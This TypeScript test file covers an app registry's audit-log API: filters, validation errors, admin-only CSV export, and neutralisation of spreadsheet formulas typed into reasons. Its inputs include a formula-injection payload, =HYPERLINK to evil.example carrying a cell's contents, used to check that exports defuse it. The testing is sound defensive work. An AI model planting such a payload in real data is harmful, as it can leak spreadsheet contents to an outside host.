import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { users } from './support/startIdentityProvider.ts';
import { seedEntry, startTestRegistry, type TestRegistry } from './support/startTestRegistry.ts';
import { engines, postgresAvailable } from './support/storageEngines.ts';

interface AuditRecord {
  id: number;
  at: string;
  actor: string;
  action: string;
  appId: string | null;
  reason: string | null;
}

/** A CSV answer as rows of cells, read by RFC 4180's rules (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      [row, cell] = [[], ''];
      index += 1;
    } else cell += char;
  }
  return rows;
}

describe.each(engines)('the audit log filtered and exported, on %s', (engine) => {
  let registry: TestRegistry;
  /** When the test's own changes began: everything before is the seed. */
  let start: string;
  beforeAll(async () => {
    if (engine === 'postgres' && !postgresAvailable()) return;
    registry = await startTestRegistry(engine);
    // Clear of the seed's millisecond and of the first change's, so that `since` and `until` split them.
    const tick = () => new Promise((resolve) => setTimeout(resolve, 5));
    await tick();
    start = new Date().toISOString();
    await tick();
    const console = `Bearer ${await registry.idp.sign(users.admin, { claims: { azp: 'bas-console' } })}`;
    const changes = [
      [
        'akta-kelahiran',
        'disable',
        'Formulir disalahgunakan: =HYPERLINK("http://evil.example/?d="&A1,"klik")',
      ],
      ['akta-kelahiran', 'enable', 'Sudah, "aman", kembali normal'],
      ['akta-kematian', 'disable', '@SUM(1+1)'],
    ] as const;
    for (const [app, action, reason] of changes) {
      const answer = await registry.call('POST', `/api/apps/${app}/${action}`, {
        headers: { authorization: console },
        body: { reason },
      });
      if (answer.status !== 200) throw new Error(`${action} ${app}: ${answer.body}`);
    }
    const published = await registry.call('POST', '/api/apps/kia/versions?existingApp=true', {
      as: users.devDisdukcapil,
      body: { ...seedEntry('kia'), version: '9.0.0' },
    });
    if (published.status !== 201) throw new Error(published.body);
  });
  afterAll(() => registry?.close());

  const records = async (query: string) => {
    const answer = await registry.call('GET', `/api/audit?${query}`, { as: users.admin });
    expect(answer.status, answer.body).toBe(200);
    return (answer.json() as { records: AuditRecord[] }).records;
  };

  describe.skipIf(engine === 'postgres' && !postgresAvailable())('the filters', () => {
    it('narrows the log by action, actor, app and time', async () => {
      const disabled = await records('action=disable');
      expect(disabled.map((record) => record.appId)).toEqual(['akta-kematian', 'akta-kelahiran']);
      expect((await records('actor=dev.disdukcapil')).map((record) => record.action)).toEqual(['publish']);
      expect((await records('app=akta-kelahiran&action=enable')).map((record) => record.reason)).toEqual([
        'Sudah, "aman", kembali normal',
      ]);
      const since = await records(`since=${encodeURIComponent(start)}`);
      expect(since.map((record) => record.action)).toEqual(['publish', 'disable', 'enable', 'disable']);
      // Before the test's first change: the seed alone, in a time zone of its own.
      const until = new Date(Date.parse(start) + 7 * 3600_000).toISOString().replace('Z', '+07:00');
      const seeded = await records(`until=${encodeURIComponent(until)}&limit=500`);
      expect(new Set(seeded.map((record) => record.action))).toEqual(new Set(['seed']));
      expect(await records('since=2000-01-01&until=2000-01-02')).toEqual([]);
    });

    it('says what is wrong with a filter', async () => {
      const cases = [
        ['action=hapus', 'querystring.action', 'must be one of the actions: seed, publish, approve'],
        ['since=kemarin', 'querystring.since', 'must be an ISO 8601 date ("2026-05-04", from midnight UTC)'],
        ['until=2026-02-30', 'querystring.until', 'must be an ISO 8601 date'],
        ['since=2026-05-04&until=2026-05-01', 'querystring.until', 'must be after since (2026-05-04)'],
        ['actor=', 'querystring.actor', ''],
      ] as const;
      for (const [query, path, message] of cases) {
        for (const url of [`/api/audit?${query}`, `/api/audit.csv?${query}`]) {
          const answer = await registry.call('GET', url, { as: users.admin });
          expect(answer.status, url).toBe(400);
          expect(answer.json(), url).toMatchObject({ code: 'VALIDATION_FAILED', path });
          expect((answer.json() as { message: string }).message, url).toContain(message);
        }
      }
    });
  });

  describe.skipIf(engine === 'postgres' && !postgresAvailable())('the CSV export', () => {
    it('is a spreadsheet of the records, with a header row and the same filters', async () => {
      const answer = await registry.call('GET', `/api/audit.csv?since=${encodeURIComponent(start)}`, {
        as: users.admin,
      });
      expect(answer.status).toBe(200);
      expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(answer.headers['content-disposition']).toBe('attachment; filename="audit.csv"');
      const [header, ...rows] = parseCsv(answer.body);
      expect(header).toEqual(['id', 'at', 'actor', 'action', 'app', 'version', 'reason', 'before', 'after']);
      expect(rows.map((row) => [row[2], row[3], row[4]])).toEqual([
        ['dev.disdukcapil', 'publish', 'kia'],
        ['admin', 'disable', 'akta-kematian'],
        ['admin', 'enable', 'akta-kelahiran'],
        ['admin', 'disable', 'akta-kelahiran'],
      ]);
      const json = (await records(`since=${encodeURIComponent(start)}`)).map((record) => String(record.id));
      expect(rows.map((row) => row[0])).toEqual(json);
      // Commas and quotes survive the round trip; before and after are the records' JSON.
      expect(rows[2]?.[6]).toBe('Sudah, "aman", kembali normal');
      expect(JSON.parse(rows[2]?.[8] ?? '')).toEqual({ status: 'active' });
    });

    it('shows a formula typed as a reason as text, never as a formula a spreadsheet would run', async () => {
      const answer = await registry.call('GET', '/api/audit.csv?action=disable', { as: users.admin });
      const reasons = parseCsv(answer.body)
        .slice(1)
        .map((row) => row[6]);
      expect(reasons).toEqual([
        "'@SUM(1+1)",
        'Formulir disalahgunakan: =HYPERLINK("http://evil.example/?d="&A1,"klik")',
      ]);
      // One that starts the cell is neutralised; one further in is not a formula to begin with.
      expect(answer.body).toContain(`'@SUM(1+1)`);
      const started = await registry.call('POST', '/api/apps/akta-kematian/enable', {
        headers: {
          authorization: `Bearer ${await registry.idp.sign(users.admin, { claims: { azp: 'bas-console' } })}`,
        },
        body: { reason: '=HYPERLINK("http://evil.example/?d="&A1,"klik")' },
      });
      expect(started.status).toBe(200);
      const latest = parseCsv(
        (await registry.call('GET', '/api/audit.csv?action=enable&limit=1', { as: users.admin })).body,
      );
      expect(latest[1]?.[6]).toBe(`'=HYPERLINK("http://evil.example/?d="&A1,"klik")`);
    });

    it('is for admins only, as the log is', async () => {
      expect((await registry.call('GET', '/api/audit.csv')).status).toBe(401);
      const developer = await registry.call('GET', '/api/audit.csv', { as: users.devDisdukcapil });
      expect(developer.status).toBe(403);
      expect(developer.json()).toMatchObject({ code: 'FORBIDDEN' });
      const portal = `Bearer ${await registry.idp.sign(users.admin, { claims: { azp: 'bas-shell' } })}`;
      const fromPortal = await registry.call('GET', '/api/audit.csv', { headers: { authorization: portal } });
      expect(fromPortal.status).toBe(403);
      expect((fromPortal.json() as { message: string }).message).toBe(
        'A token of bas-shell may not export the audit log: use bas-remote (client bas-cli) or the console (bas-console).',
      );
    });
  });
});
